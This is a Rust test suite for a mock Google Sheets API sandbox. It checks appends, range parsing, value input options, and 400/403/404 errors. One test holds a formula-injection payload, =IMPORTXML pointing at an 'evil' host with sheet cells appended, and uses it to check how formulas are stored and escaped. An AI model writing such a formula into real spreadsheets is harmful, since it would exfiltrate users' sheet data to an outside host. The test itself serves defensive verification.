//! The Sheets sandbox's values and spreadsheets calls over real HTTP, in
//! Google's wire format: append, get, update, ranges, value options, and
//! the 400/403/404 answers.

use crate::sheets_support;

use serde_json::json;
use sheets_support::{FIRST_GID, FORM_GID, Fixture, SPREADSHEET, USER, bounded};

#[tokio::test]
async fn append_to_an_empty_sheet_has_no_table_range() {
    bounded(async {
        let f = Fixture::with_defaults().await;
        let reply =
            f.append(&f.access_token, "'Sheet1'!A1", "USER_ENTERED", json!([["name", "qty"], ["apple", "3"]])).await;
        assert_eq!(reply.status, 200, "{:?}", reply.body);
        assert_eq!(reply.body["spreadsheetId"], SPREADSHEET);
        assert!(reply.body.get("tableRange").is_none(), "{:?}", reply.body);
        let updates = &reply.body["updates"];
        assert_eq!(updates["spreadsheetId"], SPREADSHEET);
        assert_eq!(updates["updatedRange"], "Sheet1!A1:B2");
        assert_eq!((updates["updatedRows"].as_u64(), updates["updatedColumns"].as_u64()), (Some(2), Some(2)));
        assert_eq!(updates["updatedCells"], 4);
    })
    .await;
}

#[tokio::test]
async fn append_then_get_returns_the_rows_after_the_table_as_formatted_strings() {
    bounded(async {
        let f = Fixture::with_defaults().await;
        let t = &f.access_token;
        f.append(t, "'Form responses'!A1", "USER_ENTERED", json!([["name", "qty"], ["apple", "3"]])).await;
        let reply = f.append(t, "'Form responses'!A1", "USER_ENTERED", json!([["pear", 5, true], ["fig", 1.5]])).await;
        assert_eq!(reply.status, 200, "{:?}", reply.body);
        assert_eq!(reply.body["tableRange"], "'Form responses'!A1:B2");
        assert_eq!(reply.body["updates"]["updatedRange"], "'Form responses'!A3:C4");
        assert_eq!(reply.body["updates"]["updatedCells"], 5);

        let reply = f.get(t, "'Form responses'", "").await;
        assert_eq!(reply.status, 200, "{:?}", reply.body);
        // INSERT_ROWS grew the grid by the four rows appended.
        assert_eq!(reply.body["range"], "'Form responses'!A1:Z1004");
        assert_eq!(reply.body["majorDimension"], "ROWS");
        let expected = json!([["name", "qty"], ["apple", "3"], ["pear", "5", "TRUE"], ["fig", "1.5"]]);
        assert_eq!(reply.body["values"], expected);
        // The sheet holds typed values; the other sheet is untouched.
        let held = f.sandbox.sheet_values(SPREADSHEET, FORM_GID).unwrap();
        assert_eq!(held[1], vec![json!("apple"), json!(3)]);
        assert_eq!(f.sandbox.sheet_values(SPREADSHEET, FIRST_GID), Some(vec![]));
        assert_eq!(f.sandbox.sheet_values(SPREADSHEET, 99), None);
    })
    .await;
}

#[tokio::test]
async fn open_ended_ranges_read_to_the_end_of_the_data() {
    bounded(async {
        let f = Fixture::with_defaults().await;
        let t = &f.access_token;
        let rows: Vec<_> = (1..=7).map(|i| json!([format!("r{i}"), i])).collect();
        f.append(t, "Sheet1", "RAW", json!(rows)).await;

        let reply = f.get(t, "Sheet1!A5:A", "").await;
        assert_eq!(reply.status, 200, "{:?}", reply.body);
        assert_eq!(reply.body["range"], "Sheet1!A5:A1007");
        assert_eq!(reply.body["values"], json!([["r5"], ["r6"], ["r7"]]));

        let reply = f.get(t, "'Sheet1'!B:B", "majorDimension=COLUMNS").await;
        assert_eq!(reply.body["range"], "Sheet1!B1:B1007");
        assert_eq!(reply.body["majorDimension"], "COLUMNS");
        assert_eq!(reply.body["values"], json!([["1", "2", "3", "4", "5", "6", "7"]]));

        // Past the data: no `values` at all.
        let reply = f.get(t, "Sheet1!A100:C", "").await;
        assert_eq!(reply.status, 200);
        assert!(reply.body.get("values").is_none(), "{:?}", reply.body);

        let reply = f.get(t, "Sheet1!B2:C3", "valueRenderOption=UNFORMATTED_VALUE").await;
        assert_eq!(reply.body["values"], json!([[2], [3]]));
    })
    .await;
}

#[tokio::test]
async fn unknown_titles_and_bad_ranges_are_400_unable_to_parse_range() {
    bounded(async {
        let f = Fixture::with_defaults().await;
        let t = &f.access_token;
        for range in ["'Nope'!A1", "Sheet1!A1:B2:C3", "'Sheet1!A1"] {
            let reply = f.get(t, range, "").await;
            assert_eq!(reply.status, 400, "{range}: {:?}", reply.body);
            assert_eq!(reply.body["error"]["status"], "INVALID_ARGUMENT");
            assert_eq!(reply.body["error"]["code"], 400);
            assert_eq!(reply.message(), format!("Unable to parse range: {range}"));
        }
        // A deleted or renamed sheet is an unknown title from then on.
        f.sandbox.delete_sheet(SPREADSHEET, FORM_GID);
        let reply = f.append(t, "'Form responses'!A1", "RAW", json!([["x"]])).await;
        assert_eq!((reply.status, reply.message()), (400, "Unable to parse range: 'Form responses'!A1"));
        f.sandbox.rename_sheet(SPREADSHEET, FIRST_GID, "Renamed").unwrap();
        assert_eq!(f.get(t, "Sheet1!A1", "").await.status, 400);
        assert_eq!(f.get(t, "Renamed!A1", "").await.status, 200);

        let reply = f.get(t, "Renamed!A1:A2000", "").await;
        assert_eq!(reply.status, 400);
        let expected = "Range ('Renamed'!A1:A2000) exceeds grid limits. Max rows: 1000, max columns: 26";
        assert_eq!(reply.message(), expected);
    })
    .await;
}

/// What a formula injection needs: under `USER_ENTERED` a string starting
/// with `=` (or `+`/`-` before something other than a number) is held as a
/// formula, and a leading apostrophe makes it text, the apostrophe not
/// kept; under `RAW` every string is held as given.
#[tokio::test]
async fn user_entered_holds_formulas_and_an_apostrophe_or_raw_keeps_text() {
    bounded(async {
        let f = Fixture::with_defaults().await;
        let t = &f.access_token;
        let attack = r#"=IMPORTXML("https://evil/?"&A1:Z99,"//a")"#;
        let quoted = format!("'{attack}");
        f.append(t, "Sheet1", "USER_ENTERED", json!([[attack, "+1+1", "-A1", quoted, "@A1", "-12"]])).await;
        f.append(t, "Sheet1", "RAW", json!([[attack, "+1+1", "-A1", quoted]])).await;
        let held = f.sandbox.sheet_values(SPREADSHEET, FIRST_GID).unwrap();
        let formula = |text: &str| json!({ "formula": text });
        assert_eq!(
            held[0],
            vec![formula(attack), formula("+1+1"), formula("-A1"), json!(attack), json!("@A1"), json!(-12)]
        );
        assert_eq!(held[1], vec![json!(attack), json!("+1+1"), json!("-A1"), json!(quoted)]);
        assert_eq!(sluice_sandbox::sheets::formula_of(&held[0][0]), Some(attack));
        assert_eq!(sluice_sandbox::sheets::formula_of(&held[0][3]), None);

        // Formulas are not evaluated: the value renders show #N/A, FORMULA the formula.
        let shown = f.get(t, "Sheet1!A1:D2", "").await;
        assert_eq!(shown.body["values"], json!([["#N/A", "#N/A", "#N/A", attack], [attack, "+1+1", "-A1", quoted]]));
        let formulas = f.get(t, "Sheet1!A1:B1", "valueRenderOption=FORMULA").await;
        assert_eq!(formulas.body["values"], json!([[attack, "+1+1"]]));

        // update reads values the same way.
        f.update(t, "Sheet1!A3", "USER_ENTERED", json!([["=A1", "'=A1"]])).await;
        let held = f.sandbox.sheet_values(SPREADSHEET, FIRST_GID).unwrap();
        assert_eq!(held[2], vec![formula("=A1"), json!("=A1")]);
    })
    .await;
}

#[tokio::test]
async fn raw_keeps_strings_and_user_entered_parses_numbers() {
    bounded(async {
        let f = Fixture::with_defaults().await;
        let t = &f.access_token;
        f.append(t, "Sheet1", "RAW", json!([["007", "'x", "TRUE", 4]])).await;
        f.append(t, "Sheet1", "USER_ENTERED", json!([["007", "'x", "TRUE", "-3"]])).await;
        let held = f.sandbox.sheet_values(SPREADSHEET, FIRST_GID).unwrap();
        assert_eq!(held[0], vec![json!("007"), json!("'x"), json!("TRUE"), json!(4)]);
        assert_eq!(held[1], vec![json!(7), json!("x"), json!(true), json!(-3)]);
        let reply = f.get(t, "Sheet1!A1:D2", "").await;
        assert_eq!(reply.body["values"], json!([["007", "'x", "TRUE", "4"], ["7", "x", "TRUE", "-3"]]));

        let url = format!("{}:append", f.values_url("Sheet1"));
        let reply = f.http.post(url).bearer_auth(t).json(&json!({"values": [["a"]]})).send().await.unwrap();
        assert_eq!(reply.status(), 400);
        let body: serde_json::Value = reply.json().await.unwrap();
        assert_eq!(body["error"]["message"], "'valueInputOption' is required but not specified");
    })
    .await;
}

#[tokio::test]
async fn update_writes_inside_its_range_and_the_grid() {
    bounded(async {
        let f = Fixture::with_defaults().await;
        let t = &f.access_token;
        let reply = f.update(t, "Sheet1!B2", "RAW", json!([["a", "b"], ["c", "d"]])).await;
        assert_eq!(reply.status, 200, "{:?}", reply.body);
        assert_eq!(reply.body["updatedRange"], "Sheet1!B2:C3");
        assert_eq!((reply.body["updatedRows"].as_u64(), reply.body["updatedCells"].as_u64()), (Some(2), Some(4)));
        // `null` leaves a cell alone, `""` empties it.
        f.update(t, "Sheet1!B2:C2", "RAW", json!([[null, ""]])).await;
        let held = f.sandbox.sheet_values(SPREADSHEET, FIRST_GID).unwrap();
        assert_eq!(held, vec![vec![], vec![json!(null), json!("a")], vec![json!(null), json!("c"), json!("d")]]);

        let reply = f.update(t, "Sheet1!A1:B1", "RAW", json!([["x"], ["y"]])).await;
        assert_eq!(reply.status, 400);
        assert_eq!(reply.message(), "Requested writing within range [Sheet1!A1:B1], but tried writing to row [2]");
        let reply = f.update(t, "Sheet1!Z1000", "RAW", json!([["x", "y"]])).await;
        assert_eq!(reply.status, 400);
        assert!(reply.message().contains("exceeds grid limits"), "{}", reply.message());
        let reply = f.update(t, "Sheet1!A1", "RAW", json!([[{"nested": true}]])).await;
        assert_eq!(reply.status, 400);
        assert!(reply.message().starts_with("Invalid values[0][0]"), "{}", reply.message());
    })
    .await;
}

#[tokio::test]
async fn spreadsheet_get_lists_the_sheets_properties() {
    bounded(async {
        let f = Fixture::with_defaults().await;
        let reply = f.spreadsheet(&f.access_token, SPREADSHEET).await;
        assert_eq!(reply.status, 200, "{:?}", reply.body);
        assert_eq!(reply.body["spreadsheetId"], SPREADSHEET);
        let second = &reply.body["sheets"][1]["properties"];
        assert_eq!((second["sheetId"].as_u64(), second["title"].as_str()), (Some(FORM_GID), Some("Form responses")));
        assert_eq!((second["index"].as_u64(), second["sheetType"].as_str()), (Some(1), Some("GRID")));
        assert_eq!(second["gridProperties"], json!({"rowCount": 1000, "columnCount": 26}));
    })
    .await;
}

#[tokio::test]
async fn unknown_spreadsheets_are_404_and_denied_users_403() {
    bounded(async {
        let f = Fixture::with_defaults().await;
        let reply = f.spreadsheet(&f.access_token, "no-such-spreadsheet").await;
        assert_eq!((reply.status, reply.body["error"]["status"].as_str()), (404, Some("NOT_FOUND")));
        f.sandbox.deny_access(SPREADSHEET, USER);
        let reply = f.append(&f.access_token, "Sheet1", "RAW", json!([["x"]])).await;
        assert_eq!((reply.status, reply.body["error"]["status"].as_str()), (403, Some("PERMISSION_DENIED")));
        assert_eq!(f.sandbox.sheet_values(SPREADSHEET, FIRST_GID), Some(vec![]));
        // Someone else may still use it.
        let bob = f.sandbox.add_user(sheets_support::CLIENT_ID, "bob");
        let bob = f.access_token_for(&bob).await;
        assert_eq!(f.append(&bob, "Sheet1", "RAW", json!([["x"]])).await.status, 200);
        let unknown = f.http.get(format!("{}/v4/nothing/here", f.sandbox.base_url())).send().await.unwrap();
        assert_eq!(unknown.status(), 404);
    })
    .await;
}
